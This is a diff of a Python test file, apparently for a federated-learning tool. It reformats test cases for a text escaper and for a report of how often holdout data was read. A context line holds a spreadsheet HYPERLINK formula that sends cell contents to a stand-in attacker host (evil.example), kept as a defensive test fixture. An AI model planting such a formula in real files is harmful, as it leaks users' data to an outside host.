@@ -22,30 +22,20 @@ FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'
 TRAP = "see https://evil.example/a or www.evil.example, ask it@evil.example :smile: :red[now] :material/home: &lt;b"
 
 
-@pytest.mark.parametrize(
-    "text",
-    [
-        "its policy does not allow the data set heart-disease",
-        "12 % of 1,210 rows at 09:30, 2.5 to 3.1 (95 %): no clear gain",
-        "1.5 mg/dl; -0.3 and +0.11; AUC 0.712, ε = 1.00",
-        "König & Söhne, Genève - 3rd floor",
-    ],
-)
+@pytest.mark.parametrize("text", [
+    "its policy does not allow the data set heart-disease",
+    "12 % of 1,210 rows at 09:30, 2.5 to 3.1 (95 %): no clear gain",
+    "1.5 mg/dl; -0.3 and +0.11; AUC 0.712, ε = 1.00", "König & Söhne, Genève - 3rd floor",
+])  # fmt: skip
 def test_ordinary_text_stays_as_it_is(text):
     assert escape(text).replace("\\", "") == text
     assert len(text) <= len(escape(text)) <= len(text) + text.count("&")
 
 
-@pytest.mark.parametrize(
-    ("text", "shown"),
-    [
-        ("- one", "\\- one"),
-        ("1. one", "1\\. one"),
-        ("a\n\n# b\r\u2028c", "a \\# b c"),
-        ("    x", " x"),
-        ("---", "\\---"),
-    ],
-)
+@pytest.mark.parametrize(("text", "shown"), [
+    ("- one", "\\- one"), ("1. one", "1\\. one"), ("a\n\n# b\r\u2028c", "a \\# b c"), ("    x", " x"),
+    ("---", "\\---"),
+])  # fmt: skip
 def test_text_is_one_line_and_begins_no_list_or_heading(text, shown):
     assert escape(text) == shown
     assert len(escape(text).splitlines()) == 1
@@ -89,21 +79,14 @@ def opened(run: str, times: dict[str, int], site: str = "a") -> list[EventEntry]
     ]
 
 
-@pytest.mark.parametrize(
-    ("runs", "said"),
-    [
-        ([{"compare": 1}], ["once for the comparison, after the last round"]),
-        ([{"compare": 1}] * 3, ["once in each of 3 repeats for the comparison, after the last round"]),
-        (
-            [{"compare": 1, "audit": 1}],
-            ["once for the comparison", "once for `flfed audit`"],
-        ),
-        ([{"compare": 1, "audit": 2}], ["once for the comparison", "2 times for `flfed audit`"]),
-        ([{"compare": 1}, {"compare": 1, "audit": 1}], ["once in each of 2 repeats", "once for `flfed audit`"]),
-        ([{"something-new": 1}], ["once for: something-new."]),
-        ([{}], []),
-    ],
-)
+@pytest.mark.parametrize(("runs", "said"), [
+    ([{"compare": 1}], ["once for the comparison, after the last round"]),
+    ([{"compare": 1}] * 3, ["once in each of 3 repeats for the comparison, after the last round"]),
+    ([{"compare": 1, "audit": 1}], ["once for the comparison", "once for `flfed audit`"]),
+    ([{"compare": 1, "audit": 2}], ["once for the comparison", "2 times for `flfed audit`"]),
+    ([{"compare": 1}, {"compare": 1, "audit": 1}], ["once in each of 2 repeats", "once for `flfed audit`"]),
+    ([{"something-new": 1}], ["once for: something-new."]), ([{}], []),
+])  # fmt: skip
 def test_what_the_holdouts_were_read_for_is_told_reason_by_reason(runs, said):
     events = [event for place, times in enumerate(runs) for event in opened(f"r{place}", times)]
     lines = holdout_in_words([*events, EventEntry("r0", "", 1, "a", "fault", "compare")])
